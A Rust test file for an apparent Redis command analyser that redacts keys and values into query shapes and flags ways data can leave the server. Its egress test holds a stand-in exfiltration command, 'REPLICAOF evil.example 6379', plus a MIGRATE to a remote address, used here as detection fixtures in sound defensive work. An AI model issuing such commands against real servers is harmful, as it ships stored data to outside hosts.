use super::{patterns::Patterns, *};

fn of(words: &[&str]) -> Shape {
    let mut text = format!("*{}\r\n", words.len());
    for word in words {
        text.push_str(&format!("${}\r\n{word}\r\n", word.len()));
    }
    analyse(text.as_bytes())
}

#[test]
fn shapes_say_command_and_pattern() {
    for (words, text, table) in [
        (
            &["GET", "user:1:email"][..],
            "GET user:*:email",
            Some("user:*:email"),
        ),
        (&["get", "counter"], "GET *", Some("*")),
        (&["SET", "user:1", "secret"], "SET user:* ?", Some("user:*")),
        (&["HGETALL", "h:1"], "HGETALL h:*", Some("h:*")),
        (
            &["EVAL", "return 1", "1", "k:1", "v"],
            "EVAL ? k:* ?",
            Some("k:*"),
        ),
        (&["EVAL", "return 1", "0", "v"], "EVAL ?", None),
        (
            &["SCAN", "0", "MATCH", "user:*", "COUNT", "9"],
            "SCAN ? user:* ?",
            Some("user:*"),
        ),
        (&["SCAN", "0"], "SCAN ?", None),
        (&["KEYS", "*"], "KEYS *", Some("*")),
        (
            &["XREAD", "COUNT", "2", "STREAMS", "s:1", "0"],
            "XREAD ? s:* ?",
            Some("s:*"),
        ),
        (
            &["OBJECT", "encoding", "user:1"],
            "OBJECT ENCODING user:*",
            Some("user:*"),
        ),
        (
            &["CONFIG", "SET", "requirepass", "secret"],
            "CONFIG SET ?",
            None,
        ),
        (&["SELECT", "3"], "SELECT 3", None),
        (&["SELECT", "30000"], "SELECT ?", None),
        (&["PING"], "PING", None),
        (&["AUTH", "ann", "secret"], "AUTH ?", None),
        (
            &["MGET", "user:1", "user:2"],
            "MGET user:* ?",
            Some("user:*"),
        ),
        (&["SUBSCRIBE", "news:1"], "SUBSCRIBE news:*", Some("news:*")),
        (&["hunter2", "user:1"], "?", None),
        (&["ACL", "hunter2", "x"], "ACL ? ?", None),
    ] {
        let shape = of(words);
        assert_eq!(&*shape.text, text, "{words:?}");
        assert_eq!(
            shape.tables.first().map(|table| &**table),
            table,
            "{words:?}"
        );
    }
    let line = analyse(b"get user:1:email");
    assert_eq!(line.tables, ["user:*:email".into()]);
    assert_eq!(&*of(&["GET", "user:1"]).summary, "GET user:*");
}

#[test]
fn ways_out() {
    let way = |words: &[&str]| {
        of(words)
            .egress
            .map(|egress| (egress.route, egress.destination.to_string()))
    };
    let remote = |to: &str| Some((EgressRoute::RemoteServer, to.to_owned()));
    assert_eq!(
        way(&["MIGRATE", "10.0.0.9", "6379", "user:1", "0", "5000"]),
        remote("10.0.0.9:6379")
    );
    assert_eq!(
        way(&["REPLICAOF", "evil.example", "6379"]),
        remote("evil.example:6379")
    );
    assert_eq!(way(&["slaveof", "no", "one"]), None);
    assert_eq!(
        way(&["BGSAVE"]),
        Some((EgressRoute::CopyToFile, String::new()))
    );
    assert_eq!(way(&["GET", "a"]), None);
}

#[test]
fn databases_and_writes() {
    assert_eq!(uses(&of(&["SELECT", "3"])).as_deref(), Some("3"));
    assert_eq!(uses(&of(&["SELECT", "abc"])).as_deref(), Some("?"));
    assert_eq!(uses(&analyse(b"SELECT 3")).as_deref(), Some("3"));
    assert_eq!(uses(&of(&["GET", "a"])), None);
    assert!(writes(&of(&["SET", "a", "b"])) && writes(&of(&["lpop", "a"])));
    assert!(!writes(&of(&["GET", "a"])) && !writes(&of(&["nothing"])));
}

#[test]
fn what_is_learnt_is_put_into_the_shape() {
    let mut patterns = Patterns::default();
    for first in 'a'..='z' {
        for second in 'a'..='b' {
            patterns.learn(of(&["GET", &format!("user:{first}{second}:1")]));
        }
    }
    let shape = patterns.learn(of(&["SET", "user:alice:1", "x"]));
    assert_eq!(
        (&*shape.text, &*shape.summary),
        ("SET user:*:* ?", "SET user:*:*")
    );
    assert_eq!(shape.tables, ["user:*:*".into()]);
}

/// Nothing of keys but letters, and nothing of values, gets into a shape; hostile bytes do no harm.
#[test]
fn no_key_or_value_survives() {
    let canary = "s3cr3t-c4n4ry";
    let commands = [
        "GET", "SET", "EVAL", "EVALSHA", "MIGRATE", "SCAN", "XREAD", "ACL", "CONFIG", "AUTH",
        "CLIENT", "s3cr3t", "HELLO",
    ];
    for command in commands {
        for at in 1..6 {
            let mut words = vec![command, "a:1", "1", "b:2", "MATCH", "STREAMS"];
            words[at] = canary;
            let shape = Patterns::default().learn(of(&words));
            let shown = match (command, at) {
                // Where data is sent to is what matters of it.
                ("MIGRATE", 1 | 2) => format!("{:?}{}", shape.tables, shape.text),
                _ => format!("{shape:?}"),
            };
            assert!(
                !shown.contains("c4n4ry") && !shown.contains("s3cr3t"),
                "{shown}"
            );
        }
    }
    let mut random = 1u32;
    for _ in 0..20_000 {
        let mut next = || {
            random = random.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
            random >> 16
        };
        let mut text = b"*3\r\n$3\r\nGET\r\n$9\r\n".to_vec();
        text.truncate((next() % 20) as usize);
        text.extend((0..next() % 40).map(|_| (next() % 256) as u8));
        let shape = analyse(&text);
        assert!(shape.text.is_ascii());
    }
}
